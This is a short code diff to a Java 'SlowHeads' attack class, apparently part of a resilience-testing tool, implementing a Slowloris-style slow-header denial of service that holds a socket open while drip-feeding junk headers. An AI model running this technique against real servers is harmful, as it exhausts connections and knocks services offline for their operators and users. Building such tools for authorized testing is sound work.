@@ -25,11 +25,10 @@ final class SlowHeads implements Attack {
     }
 
     @Override
-    public void live(Target target) throws IOException, InterruptedException {
+    public void live(Target target) throws IOException {
         try (Socket socket = target.connect()) {
             socket.getOutputStream().write("GET /healthz HTTP/1.1\r\n".getBytes(StandardCharsets.US_ASCII));
-            for (int line = 0; ; line++) {
-                Thread.sleep(PACE_MILLIS);
+            for (int line = 0; Target.pause(socket, PACE_MILLIS); line++) {
                 socket.getOutputStream().write(("X-" + line + ": x\r\n").getBytes(StandardCharsets.US_ASCII));
             }
         }
